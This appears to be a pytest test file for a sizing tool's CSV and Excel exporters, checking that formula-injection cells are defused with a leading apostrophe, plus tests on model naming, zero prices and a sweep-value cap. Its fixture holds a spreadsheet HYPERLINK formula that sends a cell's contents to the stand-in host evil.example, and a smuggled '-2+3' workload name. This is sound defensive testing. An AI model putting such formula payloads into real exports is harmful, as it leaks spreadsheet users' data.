"""What leaves aisize as a spreadsheet, and three inputs that named the wrong thing (issue 22).

A config.json's ``_name_or_path`` is text from a stranger: as ``=HYPERLINK(...)`` it became a live
formula in the ``--excel`` workbook and began a cell of ``workloads.csv``. Every text cell that
begins with ``=``, ``+``, ``-``, ``@`` (or a tab or carriage return, which spreadsheets skip) is
written with a leading apostrophe in every CSV and Excel file aisize writes; numbers stay numbers.
The workloads table names a config.json model by its name, not by the whole config and its path.
"""

from __future__ import annotations

import csv
import json

import pytest

from aisize.cli import main
from aisize.plan import plan
from aisize.present.export import workloads_table, write_csv, write_excel
from aisize.scenario import dumps, from_dict, preset
from hf_configs import QWEN2_5_7B

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture(scope="module")
def hostile():
    data = json.loads(json.dumps(preset("xe9680-genai").model_dump(mode="json")))
    data["workloads"][0]["model"] = {"hf_config": "/srv/models/qwen/config.json",
                                     "config": dict(QWEN2_5_7B, _name_or_path=FORMULA)}
    data["workloads"][1]["name"] = "-2+3 team"  # a workload name a spreadsheet would evaluate
    return from_dict(data)


def _cells(path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as f:
        return [cell for row in csv.reader(f) for cell in row]


def test_csv_cells_never_start_a_formula(hostile, tmp_path):
    paths = write_csv(plan(hostile), tmp_path)
    cells = [c for p in paths for c in _cells(p)]
    assert "'" + FORMULA in cells and "'-2+3 team" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))]


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_excel_cells_are_text_not_formulas(hostile, tmp_path):
    import openpyxl

    book = openpyxl.load_workbook(write_excel(plan(hostile), tmp_path / "plan.xlsx"))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + FORMULA in {c.value for c in cells}
    assert sum(c.data_type == "n" for c in cells) > 20  # numbers stay numbers


def test_sweep_and_compare_csv_are_defused_too(hostile, tmp_path, capsys):
    path = tmp_path / "hostile.yaml"
    path.write_text(dumps(hostile))
    assert main(["sweep", str(path), "--vary", "workloads.1.name=-1+1,+1-1", "--csv", str(tmp_path / "s.csv")]) == 0
    assert main(["compare", str(path), str(path), "--csv", str(tmp_path / "c.csv")]) == 0
    for name in ("s.csv", "c.csv"):
        cells = _cells(tmp_path / name)
        assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not _number(c))], name


def test_the_workloads_table_names_a_config_json_model(hostile):
    model = workloads_table(plan(hostile))["model"].iloc[0]
    assert model == FORMULA  # the model's name (defused only when written to a file)
    assert "/srv/models" not in str(model) and "hidden_size" not in str(model)


def test_a_cloud_rate_of_zero_is_refused_by_its_field(capsys, tmp_path):
    data = json.loads(json.dumps(preset("xe9680-genai").model_dump(mode="json")))
    data["cost"]["prices"] = {data["cost"]["cloud_rate"]: 0}
    path = tmp_path / "s.json"
    path.write_text(json.dumps(data))
    assert main(["size", str(path)]) == 2
    err = capsys.readouterr().err
    assert f"cost.prices.{data['cost']['cloud_rate']}" in err and "tokens_billion" not in err


def test_sweep_with_a_comma_list_has_a_cap(tmp_path, capsys):
    path = tmp_path / "s.yaml"
    path.write_text(dumps(preset("xe9680-genai")))
    values = ",".join(str(0.3 + i * 1e-6) for i in range(1001))
    assert main(["sweep", str(path), "--vary", f"policies.mfu={values}"]) == 2
    assert "at most 1000 values" in capsys.readouterr().err
